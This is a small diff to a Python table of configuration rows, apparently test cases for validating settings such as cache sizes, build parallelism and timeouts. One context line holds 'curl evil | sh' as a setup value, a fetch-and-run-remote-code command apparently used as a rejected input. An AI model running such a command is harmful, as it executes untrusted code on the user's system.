@@ -79,6 +79,7 @@ TABLE: dict[str, Row] = {
     "environment.setup": Row((), 1, ["curl evil | sh"], []),
     "environment.network_during_setup": Row(True, 2, None, False),
     "environment.download_cache": Row(True, "maybe", None, False),
+    "environment.download_cache_bytes": Row(4 << 30, -1, 1 << 20),
     "environment.parallel_builds": Row(2, 0, 16, 1),
     "environment.auto": Row(True, "sometimes", None, False),
     "environment.timeout_s": Row(1800.0, 0, 90000.0, 60.0),
